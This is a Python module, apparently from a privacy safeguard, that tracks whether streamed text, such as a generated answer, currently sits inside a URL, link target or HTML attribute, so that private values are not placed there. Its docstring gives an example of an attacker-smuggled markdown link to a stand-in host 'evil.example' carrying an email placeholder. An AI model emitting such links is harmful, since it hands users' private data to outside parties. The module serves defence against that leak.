r"""Addresses of the web in a text that is still being written: URLs, targets of links and images, attributes of HTML.

The owner of an address reads what stands in it, with one click, and for images without one. So an answer into which
an attacker has smuggled `[order](https://evil.example/?<EMAIL_ADDRESS_7KQ2M9XA>)` must not get the value there.

    bare            from `//`, `http:`, `www.` or a domain with `/`, `?` or `#` behind it, up to the next white space
    delimited       that directly behind `<`, `"` or `'`, up to the closing one
    target          from `](` up to its `)`
    attribute       `src=`, `href=` and their like, up to the closing quote

An empty line ends all of them. Where renderers differ, this is strict: a placeholder too many harms less than a value
that is given away. The answer depends on the letters so far, not on the pieces in which they came.
"""

from __future__ import annotations

import re

_TAIL = 96
_SPACES = " \t\n\r\v\f"  # renderers end a URL at these, and not at the other spaces of Unicode
_MARK = re.compile(r"""([ \t\n\r\v\f/:.?#()<>"'])""")
_BEGIN = re.compile(r"(?:https?:|(?<!\w)www\\?\.)$", re.IGNORECASE)
_DOMAIN = re.compile(r"\w\\?\.[^\W\d_]{2,63}(?::\d{1,5})?\\?[/?#]$")
_OPENING = re.compile(r"""(?<!\w)([<"'])[^\s<>"']*$""")
_ATTRIBUTE = re.compile(
    r"""\b(?:src|srcset|href|action|formaction|poster|background|ping)\s*=\s*["']$""", re.IGNORECASE
)
_ANGLE = re.compile(r"\]\(\s*<$")
_EMPTY_LINE = re.compile(r"\n[ \t\r]*\n$")
_ESCAPE = re.compile(r"(?<!\\)(?:\\\\)*\\.$", re.DOTALL)
_CLOSING = {"<": ">", '"': '"', "'": "'"}


class Addresses:
    """`in_json`: the text is JSON, where a quote ends whatever stands in a string."""

    def __init__(self, text: str = "", *, in_json: bool = False) -> None:
        self._in_json = in_json
        self._tail = ""
        self._is_bare = False
        self._until = ""
        self._depth = 0
        """Of the parentheses of a target; 0 outside."""
        self.read(text)

    @property
    def is_within(self) -> bool:
        """Whether the text ends within an address."""
        return self._is_bare or bool(self._until) or self._depth > 0

    @property
    def tail(self) -> str:
        """The last letters of the text so far, unless what follows does not depend on them."""
        return self._tail

    def read(self, text: str) -> None:
        """Go on with this text."""
        for number, part in enumerate(_MARK.split(text)):
            if number % 2 and part in _SPACES:
                self._read_space(part)
            elif number % 2:
                self._tail = (self._tail + part)[-_TAIL:]
                self._read_mark(part)
            else:
                self._tail = (self._tail + part)[-_TAIL:]

    def _read_space(self, space: str) -> None:
        self._is_bare = False
        if space == "\n" or not self._tail.endswith(tuple(_SPACES)):
            self._tail = (self._tail + space)[-_TAIL:]
        if space == "\n" and _EMPTY_LINE.search(self._tail):
            self._end()

    def _end(self) -> None:
        self._is_bare, self._until, self._depth = False, "", 0

    def _read_mark(self, mark: str) -> None:
        is_escaped = self._tail[-2:-1] == "\\" and _ESCAPE.search(self._tail) is not None
        if self._in_json and mark == '"' and not is_escaped:
            self._end()
        elif self._until:
            if mark == self._until and not is_escaped:
                self._until = ""
        elif self._depth and _ANGLE.search(self._tail):
            self._until = ">"
        elif self._depth and mark in "()" and not is_escaped:
            self._depth += 1 if mark == "(" else -1
        elif mark == "(" and self._tail.endswith("]("):
            self._depth = 1
        elif mark in "\"'" and _ATTRIBUTE.search(self._tail):
            self._until = mark
        if not self._is_bare and self._begins(mark):
            self._begin()

    def _begins(self, mark: str) -> bool:
        """Whether an address has become one with this mark."""
        if mark in ":.":
            return _BEGIN.search(self._tail[-7:]) is not None
        return mark in "/?#" and (self._tail.endswith("//") or _DOMAIN.search(self._tail) is not None)

    def _begin(self) -> None:
        self._is_bare = True
        opening = _OPENING.search(self._tail)
        if opening is not None and not self._until:
            self._until = _CLOSING[opening[1]]
